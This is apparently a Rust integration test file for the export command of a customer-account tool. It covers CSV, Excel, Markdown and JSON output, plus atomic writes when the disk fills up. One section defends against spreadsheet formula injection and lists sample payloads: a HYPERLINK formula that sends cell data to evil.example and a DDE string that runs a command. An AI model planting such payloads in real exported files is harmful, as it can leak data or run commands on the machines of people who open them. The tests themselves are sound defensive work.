//! `kam export` as files a person opens elsewhere: CSV per section, an Excel workbook with a
//! sheet per section, a Markdown dossier of one account, and one account's JSON.

use crate::support::*;
use calamine::{open_workbook_auto, Data, Reader};

fn filled_db() -> TempDb {
    let db = TempDb::new();
    let mut store = db.writer();
    fill(&mut store);
    let mut other = sample_account("C000802");
    other.name = "第二个客户".into();
    other.registration_no = None; // else it is the same company as C000001
    store.insert(&mut other).unwrap();
    db
}

#[test]
fn xlsx_has_a_sheet_per_section_with_chinese_headers_and_real_numbers() {
    let db = filled_db();
    let path = db.file("book.xlsx");
    let o = kam_db(
        &db.path,
        &[
            "--lang",
            "zh",
            "export",
            "--format",
            "xlsx",
            "--out",
            path.to_str().unwrap(),
        ],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let mut book = open_workbook_auto(&path).unwrap();
    let names = book.sheet_names();
    assert_eq!(
        names.len(),
        kam::domain::RecordKind::ALL.len() + kam::domain::RecordKind::BOOK.len(),
        "{names:?}"
    );
    assert_eq!(names[0], "客户");
    let accounts = book.worksheet_range(&names[0]).unwrap();
    assert_eq!(accounts.get((0, 0)), Some(&Data::String("客户名称".into())));
    assert_eq!(accounts.height(), 3, "header and two accounts");
    // Deals: the account's code first, then the fields; money is a number, not text.
    let deals = book.worksheet_range(&names[2]).unwrap();
    assert_eq!(deals.get((0, 0)), Some(&Data::String("客户编号".into())));
    let headers: Vec<String> = (0..deals.width())
        .map(|c| deals.get((0, c)).unwrap().to_string())
        .collect();
    let price = headers
        .iter()
        .position(|h| h == "单价")
        .expect("单价 column");
    assert!(
        matches!(deals.get((1, price)), Some(Data::Float(_))),
        "{:?}",
        deals.get((1, price))
    );
}

#[test]
fn csv_writes_one_file_per_section_with_a_bom() {
    let db = filled_db();
    let dir = db.file("csv");
    let o = kam_db(
        &db.path,
        &[
            "--lang",
            "en",
            "export",
            "--format",
            "csv",
            "--out",
            dir.to_str().unwrap(),
        ],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let accounts = std::fs::read(dir.join("accounts.csv")).unwrap();
    assert!(
        accounts.starts_with(b"\xEF\xBB\xBF"),
        "Excel needs the BOM for Chinese"
    );
    let text = String::from_utf8(accounts[3..].to_vec()).unwrap();
    assert!(text.starts_with("Account name,"), "{text}");
    assert!(text.contains("第二个客户"));
    assert!(dir.join("contacts.csv").exists() && dir.join("visit_reports.csv").exists());
    // What kam writes, kam reads: the accounts file imports into an empty book.
    let again = TempDb::new();
    let o = kam_db(
        &again.path,
        &["import", dir.join("accounts.csv").to_str().unwrap()],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stdout(&o).contains("accounts created: 2"), "{}", stdout(&o));
}

#[test]
fn markdown_is_one_accounts_dossier_and_needs_the_account() {
    let db = filled_db();
    let o = kam_db(
        &db.path,
        &[
            "--lang",
            "zh",
            "export",
            "--format",
            "md",
            "--account",
            "c000802",
        ],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let md = stdout(&o);
    assert!(md.starts_with("# C000802 第二个客户\n"), "{md}");
    assert!(!md.contains("# C000001"), "only the one account");
    let line = assert_one_error_line(&kam_db(&db.path, &["export", "--format", "md"]));
    assert!(line.contains("--account"), "{line}");
    let line = assert_one_error_line(&kam_db(
        &db.path,
        &["export", "--format", "md", "--account", "C999"],
    ));
    assert!(line.contains("no account with code C999"), "{line}");
}

#[test]
fn json_of_one_account_holds_only_that_customer() {
    let db = filled_db();
    let o = kam_db(&db.path, &["export", "--account", "C000802"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let doc: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let accounts = doc["accounts"].as_array().unwrap();
    assert_eq!(accounts.len(), 1);
    assert_eq!(accounts[0]["code"], "C000802");
    assert!(doc["visit_reports"]
        .as_array()
        .unwrap()
        .iter()
        .all(|v| v["code"] == "C000802"));
}

// ---- issue 14: formulas in cells, and a CSV export whole or not at all ----

const FORMULAS: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点这里\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
];

fn formula_db() -> TempDb {
    let db = TempDb::new();
    let mut store = db.writer();
    for (i, name) in FORMULAS.iter().enumerate() {
        let mut a = sample_account(&format!("C00090{i}"));
        a.name = name.to_string();
        a.registration_no = None;
        a.notes = Some("=1+1".into());
        store.insert(&mut a).unwrap();
    }
    db
}

fn csv_export(db: &TempDb, dir: &std::path::Path) -> std::process::Output {
    kam_db(
        &db.path,
        &[
            "--lang",
            "en",
            "export",
            "--format",
            "csv",
            "--out",
            dir.to_str().unwrap(),
        ],
    )
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_unchanged() {
    let db = formula_db();
    let dir = db.file("csv");
    let o = csv_export(&db, &dir);
    assert!(o.status.success(), "{}", stderr(&o));
    let bytes = std::fs::read(dir.join("accounts.csv")).unwrap();
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let headers = reader.headers().unwrap().clone();
    let col = |h: &str| headers.iter().position(|x| x == h).unwrap();
    let (name, notes) = (col("Account name"), col("Notes"));
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    for (row, formula) in rows.iter().zip(FORMULAS) {
        assert_eq!(&row[name], format!("'{formula}"));
        assert_eq!(&row[notes], "'=1+1");
    }
    // Every cell: none starts with what a spreadsheet runs.
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r'])
                    && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                "{cell:?}"
            );
        }
    }
    // kam reads its own file back as it was.
    let again = TempDb::new();
    let o = kam_db(
        &again.path,
        &["import", dir.join("accounts.csv").to_str().unwrap()],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let store = kam::store::Store::open(&again.path, kam::store::Access::Read).unwrap();
    let back: Vec<(String, Option<String>)> = store
        .all::<kam::domain::Account>()
        .unwrap()
        .into_iter()
        .map(|a| (a.name, a.notes))
        .collect();
    let want: Vec<(String, Option<String>)> = FORMULAS
        .iter()
        // A section's file imported alone goes through the forgiving import: its time
        // columns, which name no field there, are kept in the notes like any other.
        .map(|f| {
            (
                f.to_string(),
                Some(
                    "=1+1\nCreated: 2026-11-23 10:00:00\nUpdated: 2026-11-23 10:00:00\nCreated by: tester"
                        .to_string(),
                ),
            )
        })
        .collect();
    assert_eq!(back, want);
}

#[test]
fn xlsx_holds_formula_like_names_as_plain_text() {
    let db = formula_db();
    let path = db.file("book.xlsx");
    let o = kam_db(
        &db.path,
        &[
            "export",
            "--format",
            "xlsx",
            "--out",
            path.to_str().unwrap(),
        ],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let mut book = open_workbook_auto(&path).unwrap();
    let sheet = book.sheet_names()[0].clone();
    let cells = book.worksheet_range(&sheet).unwrap();
    let names: Vec<&Data> = (1..cells.height())
        .map(|r| cells.get((r, 0)).unwrap())
        .collect();
    let want: Vec<Data> = FORMULAS
        .iter()
        .map(|f| Data::String(f.to_string()))
        .collect();
    assert_eq!(
        names,
        want.iter().collect::<Vec<_>>(),
        "text, as written, no quote"
    );
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "sheet {name} holds a formula"
        );
    }
}

/// A small tmpfs mounted for one test and unmounted after it, panics included.
struct SmallDisk(std::path::PathBuf);

impl SmallDisk {
    /// `None` where mounting is not allowed (not root): the test then says so and relies on
    /// the injected failures of `exchange::folder`'s unit tests.
    fn mount(at: std::path::PathBuf, size: &str) -> Option<SmallDisk> {
        std::fs::create_dir_all(&at).unwrap();
        let ok = std::process::Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={size}"), "tmpfs"])
            .arg(&at)
            .output()
            .is_ok_and(|o| o.status.success());
        ok.then_some(SmallDisk(at))
    }
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount").arg(&self.0).status();
    }
}

#[test]
fn a_csv_export_to_a_full_disk_leaves_the_earlier_export_whole_and_names_the_file() {
    let small = filled_db();
    let big = TempDb::new();
    assert!(kam_db(&big.path, &["demo", "--accounts", "60"])
        .status
        .success());
    let mount = small.file("disk");
    let Some(disk) = SmallDisk::mount(mount.clone(), "160k") else {
        eprintln!("skipped: cannot mount a tmpfs here (not root)");
        return;
    };
    let dir = disk.0.join("export");
    let o = csv_export(&small, &dir);
    assert!(o.status.success(), "{}", stderr(&o));
    let listing = |dir: &std::path::Path| -> Vec<(String, Vec<u8>)> {
        let mut all: Vec<_> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| {
                let e = e.unwrap();
                (
                    e.file_name().to_string_lossy().into_owned(),
                    std::fs::read(e.path()).unwrap_or_default(),
                )
            })
            .collect();
        all.sort();
        all
    };
    let before = listing(&dir);
    let o = csv_export(&big, &dir);
    let line = assert_one_error_line(&o);
    assert!(
        line.contains("the disk is full") && line.contains(&dir.display().to_string()),
        "{line}"
    );
    assert!(line.contains(".csv"), "names the file: {line}");
    assert!(!line.contains("os error"), "{line}");
    assert_eq!(listing(&dir), before, "the earlier export is whole");
    assert_eq!(
        listing(&disk.0).len(),
        1,
        "no temporary folder left on the disk"
    );
    // The JSON export to the same disk: one sentence naming its file, nothing left behind.
    let json = disk.0.join("all.json");
    let line = assert_one_error_line(&kam_db(
        &big.path,
        &["export", "--out", json.to_str().unwrap()],
    ));
    assert!(
        line.contains("the disk is full") && line.contains(&json.display().to_string()),
        "{line}"
    );
    assert_eq!(listing(&disk.0).len(), 1, "no partial JSON file");
}
